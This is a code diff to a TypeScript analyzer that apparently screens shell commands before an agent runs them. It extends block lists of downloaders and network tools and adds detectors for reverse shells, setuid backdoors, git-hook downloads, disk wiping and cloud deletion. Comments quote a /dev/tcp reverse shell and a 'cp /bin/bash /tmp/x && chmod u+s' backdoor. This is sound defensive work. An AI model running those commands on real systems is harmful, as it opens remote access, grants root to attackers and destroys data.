@@ -75,9 +75,11 @@ export interface AnalyzeEnv extends PathEnv {
   currentBranch?: () => string | null;
 }
 
-const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'busybox-sh']);
+const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'busybox-sh', 'fish', 'tcsh', 'csh', 'ksh93', 'oksh', 'loksh', 'yash', 'posh', 'rbash', 'xonsh', 'nu', 'elvish']);
 const INTERPRETERS = new Set(['python', 'python2', 'python3', 'perl', 'ruby', 'node', 'php', 'lua']);
-const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'http', 'https', 'aria2c', 'lwp-download', 'lynx']);
+/** Programs that run code they read on stdin when given no script (besides the languages inline-code.ts knows). */
+const OTHER_INTERPRETERS = new Set(['tclsh', 'wish', 'expect', 'julia', 'pwsh', 'powershell', 'osascript', 'jshell', 'groovy', 'scala', 'guile', 'racket', 'sbcl', 'clisp', 'swift', 'elixir', 'iex', 'erl', 'escript', 'ghci', 'runghc', 'ocaml', 'gdb', 'sqlite3', 'octave', 'php-cgi', 'irb', 'pry', 'jruby', 'pypy', 'pypy3', 'ipython', 'bun', 'deno', 'tsx', 'ts-node', 'Rscript', 'R', 'luajit', 'gawk', 'make']);
+const DOWNLOADERS = new Set(['curl', 'wget', 'wget2', 'fetch', 'http', 'https', 'xh', 'xhs', 'curlie', 'httpie', 'aria2c', 'axel', 'lwp-download', 'lwp-request', 'GET', 'lynx', 'links', 'w3m', 'elinks', 'ftp', 'tftp', 'lftp', 'rclone', 'gsutil', 'scp', 'sftp', 'rsync']);
 const DECODERS = new Set(['base64', 'base32', 'xxd', 'openssl', 'gunzip', 'zcat', 'rev', 'tr']);
 const PROTECTED_BRANCHES = new Set(['main', 'master', 'trunk', 'develop', 'development', 'production', 'prod', 'release', 'stable', 'live', 'default', 'gh-pages']);
 /** Programs that send data over the network. */
@@ -317,8 +319,31 @@ function interpreterReadsStdin(argv: string[]): boolean {
 export function readsScriptFromStdin(argv: string[]): boolean {
   const name = base(argv[0] ?? '');
   if (SHELLS.has(name)) return shellScript(argv).readsStdin;
-  if (INTERPRETERS.has(name.replace(/[\d.]+$/, '')) || INTERPRETERS.has(name)) return interpreterReadsStdin(argv);
+  if (INTERPRETERS.has(name.replace(/[\d.]+$/, '')) || INTERPRETERS.has(name) || langOf(name) !== null) return langOf(name) === 'awk' ? argv.includes('-f') && argv.includes('-') : interpreterReadsStdin(argv);
+  if (OTHER_INTERPRETERS.has(name) || OTHER_INTERPRETERS.has(name.replace(/[\d.]+$/, ''))) {
+    // pwsh -c - / -Command - and make -f - take the program from stdin too.
+    if (argv.includes('-')) return true;
+    return name !== 'make' && name !== 'sqlite3' && interpreterReadsStdin(argv);
+  }
   return false;
+}
+
+/**
+ * A pipeline stage whose output comes from elsewhere: a downloader, a raw network stream (nc,
+ * telnet, socat, openssl s_client, /dev/tcp), interpreter code that fetches, any unknown tool
+ * given a URL. Its output fed to a shell runs code nobody reviewed.
+ */
+function fetches(walk: Walk, u: Invocation): string | null {
+  const name = u.argv[0] ?? '';
+  if (DOWNLOADERS.has(name)) return name;
+  if (/^(nc|ncat|netcat|telnet|socat)$/.test(name) || (name === 'openssl' && u.argv[1] === 's_client')) return name;
+  if (u.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target.text))) return '/dev/tcp';
+  const lang = langOf(name);
+  if (lang) {
+    const code = inlineCode(lang, u.argv).code;
+    return code !== null && talksToNetwork(code) ? `${name} code that fetches` : null;
+  }
+  return !NOT_WRAPPERS.has(name) && networkDestination(u.argv.slice(1)) ? name : null;
 }
 
 const text = (ws: Word[]) => ws.map((w) => w.text);
@@ -340,13 +365,19 @@ interface Walk {
   secretFiles: Set<string>;
   /** Branches renamed or copied on the line: new name -> the branch whose commits it holds. */
   branchNames: Map<string, string>;
+  /** Files the line copied, with the name of what they are a copy of (cp /bin/bash /tmp/x). */
+  copiedFrom: Map<string, string>;
 }
 
 /** Analyses a command line. */
 export function analyzeCommand(command: string, env: AnalyzeEnv): Analysis {
-  const walk: Walk = { env, out: [], findings: [], critical: null, vars: new Map(), files: new Map(), netSocket: false, secretRead: null, secretFiles: new Set(), branchNames: new Map() };
+  const walk: Walk = { env, out: [], findings: [], critical: null, vars: new Map(), files: new Map(), netSocket: false, secretRead: null, secretFiles: new Set(), branchNames: new Map(), copiedFrom: new Map() };
   collect(walk, command, env.cwd, 0, false);
   for (const inv of walk.out) checkInvocation(walk, inv);
+  // exec 5<>/dev/tcp/H/P; while read l; do $l; done <&5: lines from the socket run as commands.
+  if (walk.netSocket && walk.out.some((i) => (i.words[0]?.dynamic && i.words[0].subs.length === 0) || i.argv[0] === 'eval' || (SHELLS.has(i.argv[0]) && readsScriptFromStdin(i.argv)))) {
+    block(walk, 'dangerous', 'the command opens a network socket (/dev/tcp) and runs what it reads from it: a reverse shell');
+  }
   if (walk.netSocket && walk.secretRead) {
     block(walk, 'dangerous', `the command reads the secret ${walk.secretRead} and opens a network socket (/dev/tcp): that sends the secret away`, 'secrets stay on this machine; ask the user to share what is needed');
   }
@@ -477,7 +508,7 @@ function toInvocation(walk: Walk, cmd: SimpleCommand, cwd: string | null, depth:
   const runCwd = u.chdir !== null && cwd !== null ? resolveFrom(cwd, u.chdir) : cwd;
   if (u.script !== null) collect(walk, u.script, runCwd, depth + 1, true);
   if (u.query || (u.words.length === 0 && cmd.redirects.length === 0)) return null;
-  const words = u.words.map((w, k) => (k === 0 && w.text.startsWith('\\') ? { ...w, text: w.text.slice(1) } : w));
+  const words = deleteAlias(u.words.map((w, k) => (k === 0 && w.text.startsWith('\\') ? { ...w, text: w.text.slice(1) } : w)));
   const argv = text(words);
   if (argv[0]?.includes('/') && !argv[0].startsWith('./')) argv[0] = base(argv[0]);
   return { argv, words, redirects: cmd.redirects, cwd: runCwd, elevated: u.elevated, viaXargs: u.viaXargs, xargsReplace: u.xargsReplace, upstream: [], nested };
@@ -531,6 +562,15 @@ function checkAssignments(walk: Walk, words: Word[], exported: boolean, cwd: str
       if (why) block(walk, 'dangerous', `${name}=${value.slice(0, 80)} points at code that runs unseen: ${why}`, 'run the program it is meant for directly');
     }
   }
+}
+
+/** Tools that delete trees as rm -rf does (rimraf, del-cli, rm-rf, wipe): read as rm -rf; their own globs (rimraf --glob, del-cli) count as globs. */
+function deleteAlias(words: Word[]): Word[] {
+  const name = base(words[0]?.text ?? '');
+  if (!/^(rimraf|rm-rf|del-cli|del|wipe|trash-rm)$/.test(name)) return words;
+  const globs = name !== 'rimraf' || words.some((a) => a.text === '--glob' || a.text === '-g');
+  const w0 = words[0];
+  return [{ ...w0, text: 'rm' }, { ...w0, text: '-rf' }, ...words.slice(1).filter((x) => !/^-[a-zA-Z]*[rRf]+$/.test(x.text)).map((x) => (globs && /[*?[]/.test(x.text) ? { ...x, glob: true } : x))];
 }
 
 /** Text an invocation reads on stdin, when the line says: a here-document or here-string, or static `echo`/`printf`/`cat <<EOF` output piped in. */
@@ -705,12 +745,8 @@ function genericNested(walk: Walk, inv: Invocation, depth: number): void {
       if (u.script !== null) collect(walk, u.script, inv.cwd, depth + 1, true);
       if (u.words.length === 0) continue;
       const name = base(u.words[0].text);
-      let words = u.words;
-      if (/^(rimraf|rm-rf|del-cli|del)$/.test(name)) {
-        // rimraf/del-cli delete trees; with --glob (del-cli always) their operands are globs they expand themselves.
-        const globs = name !== 'rimraf' || u.words.some((a) => a.text === '--glob' || a.text === '-g');
-        words = [{ ...u.words[0], text: 'rm' }, { ...u.words[0], text: '-rf' }, ...u.words.slice(1).map((x) => (globs && /[*?[]/.test(x.text) ? { ...x, glob: true } : x))];
-      }
+      void name;
+      const words = deleteAlias(u.words);
       const child: Invocation = { ...inv, argv: text(words), words, elevated: inv.elevated || u.elevated, upstream: inv.upstream, nested: true };
       child.argv[0] = base(child.argv[0]);
       walk.out.push(child);
@@ -842,8 +878,12 @@ function recordWrittenFiles(walk: Walk, inv: Invocation): void {
     } else if (name === 'cat') content = inv.redirects.find((x) => x.body !== undefined)?.body ?? null;
     const downloaded = DOWNLOADERS.has(name) ? name : null;
     if (content !== null || downloaded) walk.files.set(abs, { content, downloaded });
+    checkAutoRun(walk, inv, abs, content, downloaded);
   }
-  if (DOWNLOADERS.has(name)) for (const w of downloadOutputs(inv)) if (!w.dynamic) walk.files.set(resolveFrom(inv.cwd, w.text), { content: null, downloaded: name });
+  if (DOWNLOADERS.has(name)) for (const w of downloadOutputs(inv)) if (!w.dynamic) {
+    walk.files.set(resolveFrom(inv.cwd, w.text), { content: null, downloaded: name });
+    checkAutoRun(walk, inv, resolveFrom(inv.cwd, w.text), null, name);
+  }
 }
 
 /**
@@ -881,6 +921,13 @@ function downloadOutputs(inv: Invocation): Word[] {
   if (name === 'aria2c' || (name !== 'curl' && dir)) return out.map((o) => (dir && !o.text.startsWith('/') ? named(o.text) : o)).concat(!explicit && urlName && name !== 'aria2c' ? [named(urlName)] : []);
   if ((name === 'curl' && remoteName) || (name === 'wget' && !explicit)) if (urlName) out.push(named(urlName));
   return out;
+}
+
+/** Files git runs by itself (.git/hooks/*): what is written there is checked as the script it becomes; a download there is refused. */
+function checkAutoRun(walk: Walk, inv: Invocation, abs: string, content: string | null, downloaded: string | null): void {
+  if (!/\/\.git\/hooks\/[^/]+$/.test(abs) || /\.sample$/.test(abs)) return;
+  if (downloaded) block(walk, 'dangerous', `${downloaded} writes a download into the git hook ${abs}: git would run it on its own`, 'download it, read it, then install the hook');
+  else if (content !== null) collect(walk, content, inv.cwd, 1, true);
 }
 
 /** Runs a file the same line wrote: its text is checked as a script; a fresh download is refused. */
@@ -1250,6 +1297,7 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
       const beside = d !== null && srcs.length > 0 && name !== 'scp' && srcs.every((w) => besideItself(walk, target(inv, w).abs, d.abs));
       if (dest && d && !beside) checkWrite(walk, inv, d, name, name === 'ln' ? srcs.slice(0, 1) : srcs);
       for (const src of srcs) checkRead(walk, inv, target(inv, src), name);
+      if (d?.abs && srcs.length === 1 && (name === 'cp' || name === 'install')) walk.copiedFrom.set(d.abs, base(srcs[0].text));
       if (name === 'rsync' && args.some((a) => a.startsWith('--delete') || a === '--del')) {
         critical(walk, `rsync --delete`);
         // The destination loses everything the source lacks: as bad as deleting its contents.
@@ -1440,7 +1488,75 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
   if (!HANDLES_PATHS.has(name)) {
     for (const w of operands(inv.words)) checkRead(walk, inv, target(inv, w), name);
   }
+  checkDisks(walk, inv);
+  checkCloudDestroy(walk, inv);
+  checkKillAll(walk, inv);
   checkTraversal(walk, inv);
+}
+
+/** Tools that only read or list a disk device, or are judged by the checks above (mkfs, dd, partitioning). */
+const DEVICE_SAFE = /^(lsblk|blkid|file|stat|smartctl|mount|umount|eject|udevadm|partprobe|df|du|cat|head|tail|hexdump|xxd|od|less|more|strings|dd|e2fsck|fsck(\..*)?|tune2fs|dumpe2fs|xfs_info|blockdev|ls|readlink|realpath|cryptsetup|mkfs(\..*)?|mke2fs|mkswap|wipefs|mkdosfs|mkntfs|mkexfatfs|blkdiscard|sfdisk|fdisk|cfdisk|parted|sgdisk|gdisk|losetup|swapon|swapoff|growpart|resize2fs|iostat|pv|ddrescue|shred|truncate|cp|tee|echo|printf|sudo|findmnt|lsof|fuser|sync|fstrim|hdparm|nvme|wc|sha256sum|md5sum|cmp)$/;
+
+/**
+ * Any other tool pointed at a disk device (nvme format, badblocks -w, mdadm --zero-superblock,
+ * hdparm --security-erase, zpool/LVM removal): what it does there cannot be undone.
+ */
+function checkDisks(walk: Walk, inv: Invocation): void {
+  const [name, ...args] = inv.argv;
+  const a = args.join(' ');
+  let what: string | null = null;
+  if (/^(lvremove|vgremove|pvremove|lvreduce)$/.test(name)) what = 'removes logical volumes with their data';
+  else if ((name === 'zpool' && /^(destroy|labelclear)$/.test(args[0] ?? '')) || (name === 'zfs' && args[0] === 'destroy')) what = 'destroys a pool or dataset with its data';
+  else if (name === 'mdadm' && /--zero-superblock|--fail|--remove/.test(a)) what = 'erases RAID metadata';
+  else if (name === 'nvme' && /^(format|sanitize|delete-ns|detach-ns)$/.test(args[0] ?? '')) what = 'erases the drive';
+  else if (name === 'hdparm' && /--security-erase|--trim-sector|--write-sector|--make-bad-sector|--dco-restore/.test(a)) what = 'erases or damages the drive';
+  else if (name === 'btrfs' && /subvolume delete|device delete/.test(a) && /\s\/(\s|$)/.test(` ${a} `)) what = 'deletes the root subvolume';
+  else if (!DEVICE_SAFE.test(name ?? '') && !NOT_WRAPPERS.has(name) && !langOf(name ?? '')) {
+    const dev = inv.words.slice(1).find((w) => {
+      const t = target(inv, { ...w, text: w.text.replace(/^[\w-]*=/, '') });
+      return t.abs !== null && isDiskDevice(t.abs);
+    });
+    if (dev) what = `works on the disk device ${dev.text}`;
+  }
+  if (what) block(walk, 'dangerous', `${name} ${args.slice(0, 3).join(' ')} ${what}: nothing on it can be brought back`, 'check the device or volume with lsblk first; let the user run it');
+}
+
+/** Command-line clients of clouds and hosting services. */
+const CLOUD_CLIS = /^(aws|gcloud|az|doctl|heroku|fly|flyctl|vercel|netlify|firebase|cdk|sls|serverless|pulumi|terraform|tofu|linode-cli|hcloud|scw|oci|ibmcloud|upctl|vultr-cli|civo|exo|eksctl|supabase|railway|render|wrangler|pscale|neonctl|cf|gsutil|s3cmd|mc|rclone|b2|ovhcloud|openstack|kubectl|helm|gh|glab)$/;
+
+/**
+ * Deleting what lives on a cloud or hosting service, beyond the named cases in checkServices: a
+ * destroy/delete/remove verb with the confirmation turned off (--yes, --force, --quiet,
+ * --auto-approve, --confirm), or one of the verbs that always take a whole app or resource group.
+ */
+function checkCloudDestroy(walk: Walk, inv: Invocation): void {
+  const [name, ...args] = inv.argv;
+  if (!CLOUD_CLIS.test(name ?? '')) return;
+  const verbs = args.filter((x) => !x.startsWith('-'));
+  const always =
+    (name === 'az' && verbs[0] === 'group' && verbs[1] === 'delete') ||
+    (name === 'heroku' && /^(apps:destroy|destroy|pg:reset)$/.test(verbs[0] ?? '')) ||
+    (/^(fly|flyctl)$/.test(name) && verbs[0] === 'apps' && /^(destroy|delete)$/.test(verbs[1] ?? '')) ||
+    ((name === 'cdk' || name === 'sls' || name === 'serverless') && /^(destroy|remove)$/.test(verbs[0] ?? '')) ||
+    (name === 'firebase' && /^(projects:delete|hosting:disable|database:remove|firestore:delete)$/.test(verbs[0] ?? '') && args.some((x) => /^(--force|-f|--all-collections|-r|--recursive)$/.test(x)));
+  const destroy = verbs.some((v) => /^(destroy|delete|remove|rm|rb|purge|terminate|drop|nuke|apps:destroy|delete-.+|terminate-.+|destroy-.+)$/.test(v));
+  const unattended = args.some((x) => /^(--yes|-y|--force|-f|--quiet|-q|--confirm(=.*)?|--auto-approve|-auto-approve|--no-prompt|--no-confirm|--skip-confirmation|--non-interactive)$/.test(x));
+  // kubectl, helm, gh, glab and aws are judged by checkServices (a single pod or object is ordinary work).
+  if (always || (destroy && unattended && !/^(kubectl|helm|gh|glab|aws|gsutil|rclone|mc|s3cmd|b2)$/.test(name))) {
+    block(walk, 'dangerous', `${name} ${args.slice(0, 4).join(' ')} deletes resources of a cloud or hosting service${unattended ? ' without asking' : ''}`, 'let the user run it after checking what it removes');
+  }
+}
+
+/** pkill/killall -u USER with no pattern, kill of every pid ps lists: every process of a user or of the machine. */
+function checkKillAll(walk: Walk, inv: Invocation): void {
+  const [name, ...args] = inv.argv;
+  if ((name === 'pkill' || name === 'killall') && args.some((a) => a === '-u' || a.startsWith('--user'))) {
+    const rest = operands(inv.words, new Set(['-u', '--user', '-s', '--signal', '-g', '-G', '-P', '-t']));
+    if (rest.length === 0) block(walk, 'dangerous', `${name} ${args.join(' ')} kills every process of the user, the session with them`);
+  }
+  if (name === 'kill' && inv.words.some((w) => w.subs.some((sub) => /^\s*ps\s+(-[a-zA-Z]*[eA][a-zA-Z]*|a?u?x|-ax|aux)\b[^|]*$/.test(sub)))) {
+    block(walk, 'dangerous', 'kill of every process ps lists: the whole machine stops');
+  }
 }
 
 /** Commands whose path operands the switch above checks itself. */
@@ -1690,13 +1806,13 @@ function withInner(ups: Invocation[]): Invocation[] {
 function checkPipelineIntoShell(walk: Walk, inv: Invocation): void {
   if (inv.upstream.length === 0 || !readsScriptFromStdin(inv.argv)) return;
   const ups = withInner(inv.upstream);
-  const dl = ups.find((u) => DOWNLOADERS.has(u.argv[0]));
+  const dl = ups.map((u) => fetches(walk, u)).find((x) => x !== null);
   if (dl) {
     block(
       walk,
       'dangerous',
-      `piping a download (${dl.argv[0]}) straight into ${inv.argv[0]} runs unreviewed code`,
-      `download to a file, read it, then run it: ${dl.argv[0] === 'wget' ? 'wget -O install.sh URL' : 'curl -fsSLo install.sh URL'} && less install.sh && sh install.sh`,
+      `piping a download (${dl}) straight into ${inv.argv[0]} runs unreviewed code`,
+      `download to a file, read it, then run it: ${dl === 'wget' ? 'wget -O install.sh URL' : 'curl -fsSLo install.sh URL'} && less install.sh && sh install.sh`,
     );
     return;
   }
@@ -1720,13 +1836,13 @@ function checkSubstitutionsRun(walk: Walk, inv: Invocation): void {
   const name = inv.argv[0] ?? '';
   // $(…) or `…` as the command word itself: its output is run as a command.
   const cmdSub = inv.words[0]?.text.startsWith('$(…)') && inv.words[0].subs.length > 0;
-  const runs = cmdSub || SHELLS.has(name) || name === 'eval' || name === 'source' || name === '.' || INTERPRETERS.has(name.replace(/[\d.]+$/, ''));
+  const runs = cmdSub || SHELLS.has(name) || name === 'eval' || name === 'source' || name === '.' || INTERPRETERS.has(name.replace(/[\d.]+$/, '')) || langOf(name) !== null || OTHER_INTERPRETERS.has(name);
   if (!runs) return;
   for (const w of cmdSub ? inv.words.slice(0, 1) : inv.words.slice(1)) {
     for (const sub of w.subs) {
       const inner = parseShell(sub, { home: walk.env.home, cwd: inv.cwd ?? walk.env.cwd }).commands;
       const names = inner.map((c) => unwrap(c.words, { home: walk.env.home, cwd: walk.env.cwd }).words.map((x) => x.text));
-      const dl = names.map((a) => a[0]).find((n) => n && DOWNLOADERS.has(base(n)));
+      const dl = names.map((a) => (a[0] ? fetches(walk, { ...inv, argv: [base(a[0]), ...a.slice(1)], redirects: [] }) : null)).find((n) => n !== null);
       if (dl) {
         block(walk, 'dangerous', `${name} runs code downloaded by ${dl} without review`, `download to a file, read it, then run it: curl -fsSLo install.sh URL && less install.sh && sh install.sh`);
         return;
@@ -1796,6 +1912,12 @@ function checkPermissions(walk: Walk, inv: Invocation): void {
     const opensSecret = isSecret(walk, t.abs) && !isSharedSshFile(t.abs) && ((name === 'chmod' && opens) || chownAway);
     if ((recursive && (isPreciousHomeDir(t.abs, walk.env) || (isSecret(walk, t.abs) && isUnder(t.abs, walk.env.home)))) || opensSecret) {
       block(walk, 'dangerous', `${name}${recursive ? ' -R' : ''} ${mode} on ${t.abs} ${opensSecret ? 'opens a secret to other users' : 'changes the keys, settings or files kept there'}`, name === 'chmod' ? 'keys and their directory belong at chmod 700 ~/.ssh and chmod 600 for the key files' : undefined);
+      continue;
+    }
+    // A setuid shell, interpreter or copy of one (cp /bin/bash /tmp/x && chmod u+s /tmp/x), or one in a temp directory: a root backdoor.
+    const runsAnything = /^(ba|da|z|k|c|tc|fi|a|mk)?sh$|^(python|perl|ruby|node|php|lua|env|find|vim?|nano|less|more|awk|gawk|busybox|nmap|tclsh|expect|socat|nc)[\d.]*$/;
+    if (setuid && (runsAnything.test(base(t.abs)) || runsAnything.test(walk.copiedFrom.get(t.abs) ?? '') || (/^\/(tmp|var\/tmp|dev\/shm)\//.test(t.abs) && !isUnder(t.abs, walk.env.home) && !isUnder(t.abs, walk.env.project)))) {
+      block(walk, 'dangerous', `${name} ${mode} makes ${t.abs} run as its owner for anyone${walk.copiedFrom.has(t.abs) ? ` (a copy of ${walk.copiedFrom.get(t.abs)})` : ''}: a way to become root`);
       continue;
     }
     if (worldWritable) warn(walk, 'suspicious', `${name} ${mode} makes ${f.text} writable by every user`, 'chmod 755 for directories and programs, chmod 644 for files (u+x to make a script executable)');
